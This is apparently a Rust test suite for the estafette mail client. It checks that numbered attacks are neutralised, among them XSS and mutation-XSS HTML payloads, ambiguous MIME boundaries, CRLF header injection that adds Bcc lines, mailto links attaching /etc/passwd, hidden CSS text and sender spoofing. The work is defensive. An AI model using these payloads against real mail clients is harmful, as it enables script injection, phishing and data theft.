//! Hostile messages, numbered as in the list of attacks a mail client must resist: see the manual's page of attacks.

use std::collections::HashMap;

use estafette::domain::address::Mailbox;
use estafette::domain::document::Warning;
use estafette::domain::draft::Draft;
use estafette::domain::id::{AccountId, FolderId, MessageId};
use estafette::domain::link::{Link, LinkError};
use estafette::domain::message::{Block, Flags, MessageRow, MessageView};
use estafette::mime::{self, DraftTag, html, parse};

use crate::build::{identity, ids};

fn whole(headers: &str, body: &str) -> Vec<u8> {
    format!(
        "From: Dr Marie MARTIN <marie@m.example>\r\nTo: anne@m.example\r\nSubject: Avis\r\n\
         Date: Sat, 21 Nov 2026 09:42:00 +0100\r\nMIME-Version: 1.0\r\n{headers}\r\n{body}"
    )
    .into_bytes()
}

/// A message as the reader holds it.
fn view(raw: &[u8]) -> MessageView {
    let parsed = parse(raw);
    let row = MessageRow {
        id: MessageId(9),
        account: AccountId(1),
        folder: FolderId(1),
        from: parsed.envelope.from.first().cloned().unwrap_or_default(),
        to: Mailbox::default(),
        subject: parsed.envelope.subject.clone(),
        patient: None,
        date: 0,
        flags: Flags::default(),
        kind: parsed.kind,
        has_attachment: false,
        size: 0,
        downloaded: true,
        alarm: false,
        state_is_local: false,
    };
    MessageView {
        row,
        envelope: parsed.envelope,
        blocks: parsed.blocks,
        text: parsed.text,
        attachments: parsed.attachments,
        defects: parsed.defects,
    }
}

fn answer(raw: &[u8]) -> Draft {
    mime::reply(&view(raw), true, &[], AccountId(1), &|e| format!("{} :", e.from[0].label()))
}

fn shown(source: &str) -> String {
    estafette::domain::plain::text(&html::blocks(source, &HashMap::new()).blocks)
}

#[test]
fn attack_15_headers_and_parameters_that_stand_twice_hide_nothing_and_are_told() {
    // the two boundaries cut the body differently: whatever one reads, the other has
    let body = "--a\r\n\r\nun\r\n--a\r\nContent-Type: application/pdf; name=a.pdf\r\n\r\n%PDF-a\r\n--a--\r\n\
                --b\r\n\r\ndeux\r\n--b\r\nContent-Type: application/pdf; name=b.pdf\r\n\r\n%PDF-b\r\n--b--\r\n";
    for headers in [
        "Content-Type: multipart/mixed; boundary=a\r\nContent-Type: multipart/mixed; boundary=b\r\n",
        "Content-Type: multipart/mixed; boundary=a; boundary=b\r\n",
        "Content-Type: multipart/mixed; boundary=a\r\nContent-Type: text/plain\r\n",
    ] {
        let parsed = parse(&whole(headers, body));
        assert!(parsed.defects.contains(&Warning::Ambiguous), "{headers:?}: {:?}", parsed.defects);
    }
    let coded = whole(
        "Content-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\nContent-Transfer-Encoding: 7bit\r\n",
        "Qm9uam91cg==\r\n",
    );
    assert!(parse(&coded).defects.contains(&Warning::Ambiguous));
}

#[test]
fn attack_16_boundaries_that_begin_like_others_end_early_or_never_lose_no_part() {
    let kept = |boundary: &str, body: &str| {
        let raw = whole(&format!("Content-Type: multipart/mixed; boundary=\"{boundary}\"\r\n"), body);
        let parsed = parse(&raw);
        let names: Vec<String> = parsed.attachments.iter().map(|a| a.name.clone()).collect();
        (parsed.text, names, parsed.defects)
    };
    let pdf = |name: &str| format!("Content-Type: application/pdf; name={name}\r\n\r\n%PDF-1.4\r\n");
    // no end mark
    let (text, names, _) = kept("a", &format!("--a\r\n\r\nBonjour\r\n--a\r\n{}", pdf("x.pdf")));
    assert!(text.contains("Bonjour") && names == ["x.pdf"], "{text} {names:?}");
    // an inner boundary that begins like the outer one
    let inner = format!(
        "--a\r\nContent-Type: multipart/mixed; boundary=aa\r\n\r\n--aa\r\n{}--aa--\r\n--a\r\n{}--a--\r\n",
        pdf("dedans.pdf"),
        pdf("dehors.pdf")
    );
    let (_, names, _) = kept("a", &inner);
    assert_eq!(names, ["dedans.pdf", "dehors.pdf"]);
    // no boundary at all: the source is what is left to read
    let (text, ..) = kept("", "--\r\n\r\nBonjour\r\n----\r\n");
    assert!(text.contains("Bonjour"), "{text}");
}

#[test]
fn attack_22_parts_that_another_reader_would_see_are_told() {
    // what stands before and behind the parts is shown by old readers
    let hidden = whole(
        "Content-Type: multipart/mixed; boundary=a\r\n",
        "Content-Type: application/pdf; name=avant.pdf\r\n\r\n%PDF-1.4\r\n--a\r\n\r\nBonjour\r\n--a--\r\n\
         --a\r\nContent-Type: application/pdf; name=apres.pdf\r\n\r\n%PDF-1.4\r\n--a--\r\n",
    );
    let parsed = parse(&hidden);
    let is_listed = parsed.attachments.iter().any(|a| a.name == "apres.pdf");
    assert!(is_listed || parsed.defects.contains(&Warning::Ambiguous), "{:?}", parsed.defects);
}

#[test]
fn attack_26_nothing_of_a_page_runs_or_rises_again_when_it_is_read_twice() {
    for source in [
        "<svg><script>SECRET</script></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=SECRET></style></mglyph></table></mtext></math>",
        "<noscript><p title=\"</noscript><img src=x onerror=SECRET>\"></noscript>",
        "<iframe srcdoc='<script>SECRET</script>'></iframe>",
        "<form action='http://x.example/SECRET'><button formaction='javascript:SECRET'>",
        "<meta http-equiv=refresh content='0;url=http://x.example/SECRET'>",
        "<base href='http://x.example/SECRET/'><a href='page'>lien</a>",
        "<link rel=stylesheet href='http://x.example/SECRET'>",
        "<object data='SECRET'></object><embed src='SECRET'><applet code='SECRET'></applet>",
        "<template><script>SECRET</script></template>",
        "<xmp><script>SECRET</script></xmp>",
        "<style>@import 'http://x.example/SECRET'; @font-face{src:url(SECRET)}</style>",
        "<!--[if mso]><script>SECRET</script><![endif]-->",
        "<p style=\"width:expression(SECRET)\">b</p>",
    ] {
        let once = shown(&format!("<p>avant</p>{source}<p>après</p>"));
        assert!(!once.contains("SECRET") || source.starts_with("<xmp>"), "{source} -> {once}");
        // as text it stays text: no markup comes back to life
        assert!(
            html::blocks(&once, &HashMap::new())
                .blocks
                .iter()
                .all(|b| b.spans().iter().all(|s| s.link.is_none()))
        );
    }
}

#[test]
fn attack_28_a_quote_left_open_in_one_part_does_not_swallow_the_next() {
    let raw = whole(
        "Content-Type: multipart/mixed; boundary=b\r\n",
        "--b\r\nContent-Type: text/html\r\n\r\n<p>un</p><img src=\"http://x.example/\r\n\
         --b\r\nContent-Type: text/plain\r\n\r\nle secret\r\n\
         --b\r\nContent-Type: text/html\r\n\r\n\"><p>trois</p>\r\n--b--\r\n",
    );
    let parsed = parse(&raw);
    assert!(parsed.text.contains("le secret") && parsed.text.contains("trois"), "{}", parsed.text);
    let links = parsed.blocks.iter().flat_map(Block::spans).filter_map(|s| s.link.as_ref());
    assert_eq!(links.count(), 0);
}

#[test]
fn attack_30_what_is_hidden_now_is_neither_quoted_nor_forwarded_later() {
    let raw = whole(
        "Content-Type: text/html\r\n",
        "<style>.k{display:none} blockquote .k{display:block}</style><p>visible</p>\
         <div style='display:none'>PIEGE</div><div style='font-size:0'>PIEGE</div><p hidden>PIEGE</p>",
    );
    assert!(answer(&raw).body.contains("> visible"));
    let forwarded = mime::forward(&view(&raw), Vec::new(), AccountId(1), &|_| String::new());
    for draft in [answer(&raw), forwarded] {
        assert!(!draft.body.contains("PIEGE"), "{}", draft.body);
        // as plain text: no style can bring anything back
        assert!(!draft.body.contains('<'), "{}", draft.body);
    }
}

#[test]
fn attack_31_an_answer_quotes_what_was_shown_and_nothing_else() {
    let raw = whole(
        "Content-Type: multipart/mixed; boundary=b\r\n",
        "--b\r\n\r\nBonjour\r\n--b\r\nContent-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\r\n\
         Content-Transfer-Encoding: base64\r\n\r\nTUlJU0VDUkVU\r\n--b\r\nContent-Type: text/plain; name=note.txt\r\n\
         Content-Disposition: attachment\r\n\r\nPIECE\r\n--b--\r\n",
    );
    let answer = answer(&raw);
    assert!(answer.body.contains("> Bonjour"));
    assert!(!answer.body.contains("SECRET") && !answer.body.contains("PIECE"), "{}", answer.body);
    assert!(answer.attachments.is_empty());
}

#[test]
fn attack_33_only_addresses_of_the_web_and_of_mail_become_links_and_as_they_are() {
    for target in [
        "file:///etc/passwd",
        "\\\\\\\\serveur\\\\partage",
        "//serveur/partage",
        "smb://serveur/x",
        "search-ms:query=x",
        "ms-word:ofe|u|http://x.example/a.docm",
        "javascript:alert(1)",
        "JaVaScRiPt&colon;alert(1)",
        "data:text/html,x",
        "vbscript:x",
        "view-source:http://x.example",
        "page.html",
        "http://x.example/\u{202E}fdp.exe",
        "http:// x.example",
    ] {
        let out = html::blocks(&format!("<a href=\"{target}\">lien</a>"), &HashMap::new());
        assert!(out.blocks.iter().flat_map(Block::spans).all(|s| s.link.is_none()), "{target}");
    }
    // what is allowed is kept to the letter, so that the real host is what is shown
    for target in [
        "https://mssante.fr@x.example/",
        "https://mssant\u{e9}.fr/",
        "http://192.0.2.1/",
        "mailto:a@b.example?bcc=c@d.example",
    ] {
        let out = html::blocks(&format!("<a href=\"{target}\">https://mssante.fr</a>"), &HashMap::new());
        assert_eq!(out.blocks[0].spans()[0].link.as_deref(), Some(target));
    }
}

#[test]
fn attack_34_text_that_only_another_theme_or_zoom_would_show_is_left_out() {
    for style in [
        "display:none",
        "visibility:hidden",
        "opacity:0",
        "font-size:1px",
        "color:#ffffff",
        "color:white;background:#fff",
        "position:absolute;left:-9999px",
        "text-indent:-9999px",
        "height:0;overflow:hidden",
        "max-height:0px;overflow:hidden",
        "clip:rect(0,0,0,0);position:absolute",
    ] {
        let out = shown(&format!("<p>visible</p><div style=\"{style}\">CACHE</div>"));
        // shown in the colours and sizes of the program it hides nothing: left out or plain to see
        assert!(out.contains("visible"), "{style}");
        let plain = html::blocks(&format!("<div style=\"{style}\">CACHE</div>"), &HashMap::new());
        assert!(plain.blocks.iter().flat_map(Block::spans).all(|s| s.link.is_none()), "{style}");
    }
    for style in ["display:none", "visibility:hidden", "font-size:0"] {
        assert!(!shown(&format!("<div style=\"{style}\">CACHE</div>")).contains("CACHE"), "{style}");
    }
}

#[test]
fn attack_35_pages_without_end_are_cut_and_say_so() {
    let tags = html::blocks(&"<div>".repeat(1_000_000), &HashMap::new());
    assert!(tags.blocks.len() <= 20_000);
    let long = html::blocks(&"<p>mot</p>".repeat(60_000), &HashMap::new());
    assert!(long.truncated && long.blocks.len() <= 20_000);
    let huge = shown("<p style='font-size:10000px'>grand</p><font size=99999>grand</font>");
    assert_eq!(huge, "grand\n\ngrand");
}

#[test]
fn attack_40_the_address_that_wrote_is_told_apart_from_the_name_it_gives_itself() {
    for (from, address) in [
        ("From: \"marie@m.example\" <intrus@x.example>\r\n", "intrus@x.example"),
        ("From: marie@m.example <intrus@x.example>\r\n", "intrus@x.example"),
        (
            "From: =?utf-8?Q?marie=40m.example_=3Cmarie=40m.example=3E?= <intrus@x.example>\r\n",
            "intrus@x.example",
        ),
    ] {
        let raw =
            format!("{from}To: a@b.example\r\nSubject: x\r\nDate: Sat, 21 Nov 2026 09:42:00 +0100\r\n\r\nx");
        let envelope = parse(raw.as_bytes()).envelope;
        assert_eq!(envelope.from[0].address, address, "{from}");
    }
    // several senders, none, or a group: said, and never one taken for another
    for from in ["", "From: \r\n", "From: Groupe: a@b.example, c@d.example;\r\n", "From: undisclosed:;\r\n"] {
        let raw = format!("{from}Subject: x\r\nDate: Sat, 21 Nov 2026 09:42:00 +0100\r\n\r\nx");
        let _ = parse(raw.as_bytes());
    }
    let twice = "From: marie@m.example\r\nFrom: intrus@x.example\r\nSubject: x\r\nDate: Sat, 21 Nov 2026 09:42:00 +0100\r\n\r\nx";
    assert!(parse(twice.as_bytes()).defects.contains(&Warning::Ambiguous));
}

#[test]
fn attack_42_names_and_subjects_cannot_add_header_lines_to_an_answer() {
    let raw = "From: =?utf-8?Q?Marie=0D=0ABcc:_espion=40x.example?= <marie@m.example>\r\n\
         To: anne@m.example\r\nSubject: =?utf-8?Q?Avis=0D=0ABcc:_espion=40x.example=0D=0A=0D=0Acorps?=\r\n\
         Message-ID: <a\r\n b@m.example>\r\nDate: Sat, 21 Nov 2026 09:42:00 +0100\r\n\r\nx";
    let original = view(raw.as_bytes());
    let draft = mime::reply(&original, false, &[], AccountId(1), &|_| String::new());
    let built = mime::build(&draft, &identity(), Some(&original.envelope), &ids()).unwrap();
    let sent = String::from_utf8(built.raw).unwrap();
    let (head, _) = sent.split_once("\r\n\r\n").unwrap();
    assert!(!head.lines().any(|line| line.to_ascii_lowercase().starts_with("bcc:")), "{head}");
    let again = parse(sent.as_bytes()).envelope;
    assert_eq!(again.to.len() + again.cc.len(), 1);
}

#[test]
fn attack_36_37_38_46_no_signature_and_no_certificate_of_a_message_is_ever_taken_as_good() {
    let part = |body: &str| {
        format!(
            "--s\r\nContent-Type: text/plain\r\n\r\n{body}\r\n--s\r\nContent-Type: application/pkcs7-signature; name=smime.p7s\r\n\
             Content-Transfer-Encoding: base64\r\n\r\nMIIBAgYJKoZIhvcNAQcCoIHzMIHwAgEBMQA=\r\n--s--\r\n"
        )
    };
    let signed = "Content-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; micalg=sha-256; boundary=s\r\n";
    let opaque =
        std::fs::read(concat!(env!("CARGO_MANIFEST_DIR"), "/tests/data/message/smime-p7m.eml")).unwrap();
    let detached =
        std::fs::read(concat!(env!("CARGO_MANIFEST_DIR"), "/tests/data/message/smime-p7s.eml")).unwrap();
    for raw in [
        // content of its own beside the one it signs, several signers, no signer, untrusted or expired: all the same
        whole(signed, &part("Bonjour")),
        opaque,
        detached,
    ] {
        let parsed = parse(&raw);
        assert!(parsed.defects.contains(&Warning::SignatureNotVerified), "{:?}", parsed.defects);
    }
    // two S/MIME layers of which one hides the other
    let nested = whole(signed, &part("--s\r\nContent-Type: text/html\r\n\r\n<p>glissé</p>"));
    assert!(!parse(&nested).defects.is_empty());
}

/// Header fields of a built message, names in lower case.
fn fields(raw: &[u8]) -> Vec<String> {
    let text = String::from_utf8(raw.to_vec()).unwrap();
    let (head, _) = text.split_once("\r\n\r\n").unwrap();
    let names = head.lines().filter(|line| !line.starts_with([' ', '\t']));
    names.filter_map(|line| Some(line.split_once(':')?.0.to_ascii_lowercase())).collect()
}

#[test]
fn attack_44_a_link_attaches_nothing_hides_nobody_and_adds_no_line() {
    // addresses of mail are none of this program's: the system is not told that it opens them, and a link of theirs
    // handed to it is refused
    let entry =
        std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/packaging/linux/estafette.desktop"));
    assert!(!entry.unwrap().contains("mailto"));
    for link in [
        "mailto:a@b.fr?attach=/etc/passwd",
        "mailto:a@b.fr?attachment=/etc/passwd&bcc=espion@x.example",
        "MAILTO:a@b.fr",
        "estafette:mailto:a@b.fr?attach=/etc/passwd",
    ] {
        assert_eq!(Link::parse(link), Err(LinkError::Action), "{link}");
    }
    // its own take no hidden recipient, no text, no header, no file that is only named, and nothing without end
    for name in ["attach", "attachment", "bcc", "cc", "cci", "body", "corps", "in-reply-to", "from", "html"] {
        let link = format!("estafette:ecrire?a=b@c.fr&{name}=x");
        assert_eq!(Link::parse(&link), Err(LinkError::Field(name.to_owned())), "{link}");
    }
    for (link, field) in [
        ("estafette:ecrire?objet=Avis%0d%0aBcc:%20espion@x.example", "objet"),
        ("estafette:ecrire?a=b@c.fr%0d%0aBcc:espion@x.example", "a"),
        ("estafette:ecrire?a=b@c.fr,espion@x.example", "a"),
        ("estafette:ecrire?document=file:///etc/passwd", "document"),
        ("estafette:ecrire?document=cr.pdf", "document"),
    ] {
        assert_eq!(Link::parse(link), Err(LinkError::Value(field.to_owned())), "{link}");
    }
    let long = format!("estafette:ecrire?objet={}", "a".repeat(5_000));
    assert_eq!(Link::parse(&long), Err(LinkError::Length));
    // in a letter such an address stays an address to look at: answering the letter adds nobody
    let raw = whole(
        "Content-Type: text/html\r\n",
        "<a href=\"mailto:espion@x.example?bcc=autre@x.example&amp;attach=/etc/passwd\">Répondre ici</a>",
    );
    let answer = answer(&raw);
    let to: Vec<&str> = answer.recipients().iter().map(|r| r.address.as_str()).collect();
    // to all, and nobody the link names
    assert_eq!(to, ["marie@m.example", "anne@m.example"]);
    assert!(answer.bcc.is_empty() && answer.attachments.is_empty());
}

#[test]
fn attack_45_a_draft_on_the_server_holds_what_was_typed_and_opens_nothing_that_is_sealed() {
    let sealed = whole(
        "Message-ID: <secret@m.example>\r\nContent-Type: multipart/mixed; boundary=b\r\n",
        "--b\r\n\r\nBonjour\r\n--b\r\nContent-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\r\n\
         Content-Disposition: attachment\r\nContent-Transfer-Encoding: base64\r\n\r\nTUlJU0VDUkVU\r\n--b--\r\n",
    );
    let original = view(&sealed);
    let draft = Draft { body: "Ma réponse".to_owned(), ..answer(&sealed) };
    let tag = DraftTag { identity: "abc".into(), revision: "1".into(), base: None, conflict: false };
    let built = mime::build_draft(&draft, &identity(), Some(&original.envelope), &ids(), &tag).unwrap();
    let text = String::from_utf8(built.clone()).unwrap();
    assert!(!text.contains("SECRET") && !text.contains("TUlJU0VDUkVU") && !text.contains("pkcs7"), "{text}");
    // no field but those a message has and the one that names the draft
    let known = [
        "x-estafette-draft",
        "from",
        "to",
        "cc",
        "bcc",
        "subject",
        "date",
        "message-id",
        "in-reply-to",
        "references",
        "mime-version",
        "content-type",
        "content-transfer-encoding",
        "x-mss-nil",
    ];
    let others: Vec<String> = fields(&built).into_iter().filter(|f| !known.contains(&f.as_str())).collect();
    assert!(others.is_empty(), "{others:?}");
    // a draft somebody else put there is no oracle: what is encrypted in it stays so, nothing is signed, and no field
    // of it makes the program read a file
    let planted = whole(
        "X-Estafette-Draft: abc;\r\n revision=1;\r\n seal=00\r\nX-Mozilla-External-Attachment-URL: file:///etc/passwd\r\n\
         X-Identity-Key: id1\r\nContent-Type: multipart/mixed; boundary=b\r\n",
        "--b\r\n\r\nTexte\r\n--b\r\nContent-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\r\n\
         Content-Disposition: attachment\r\nContent-Transfer-Encoding: base64\r\n\r\nTUlJU0VDUkVU\r\n\
         --b\r\nContent-Type: message/external-body; access-type=local-file; name=\"/etc/passwd\"\r\n\
         Content-Disposition: attachment; filename=cr.pdf\r\n\r\nContent-Type: text/plain\r\n\r\n--b--\r\n",
    );
    let read = mime::read_draft(&planted, AccountId(1)).draft;
    assert_eq!(read.body.trim(), "Texte");
    let passwd = std::fs::read("/etc/passwd").unwrap_or_default();
    assert!(read.attachments.iter().all(|file| file.content != passwd));
    let sealed = read.attachments.iter().find(|file| file.name == "smime.p7m").unwrap();
    assert_eq!(sealed.content, b"MIISECRET", "as it came, not opened");
    let sent = mime::build(&Draft { subject: "x".into(), ..read }, &identity(), None, &ids()).unwrap().raw;
    assert!(!String::from_utf8(sent).unwrap().contains("multipart/signed"));
}

#[test]
fn attack_50_no_markup_of_a_template_or_signature_is_ever_sent_or_taken_over() {
    let markup = "<p>Cordialement</p><script>alert(1)</script><img src=\"http://x.example/p.gif\">";
    let typed = Draft { body: markup.to_owned(), subject: "x".into(), ..answer(&whole("", "Bonjour")) };
    let built = mime::build(&typed, &identity(), None, &ids()).unwrap();
    let sent = String::from_utf8(built.raw.clone()).unwrap();
    assert!(!sent.to_ascii_lowercase().contains("text/html"), "{sent}");
    // who reads it sees the letters that were typed
    let read = parse(&built.raw);
    assert_eq!(read.text.trim(), markup);
    assert!(read.blocks.iter().flat_map(Block::spans).all(|span| span.link.is_none()));
    // a template of another program, taken over as a draft, gives its visible words and nothing else
    let template = whole(
        "Content-Type: text/html\r\n",
        "<style>p{color:red}</style><p>Cher confrère,</p><script>alert(1)</script>\
         <span style=\"display:none\">CACHÉ</span><img src=\"http://x.example/p.gif\" alt=\"\"><iframe src=\"//x\"></iframe>\
         <p onclick=\"x()\">Cordialement</p>",
    );
    let draft = mime::read_draft(&template, AccountId(1)).draft;
    let lines: Vec<&str> = draft.body.lines().map(str::trim).filter(|line| !line.is_empty()).collect();
    assert_eq!(lines, ["Cher confrère,", "Cordialement"]);
    assert!(draft.attachments.is_empty());
}
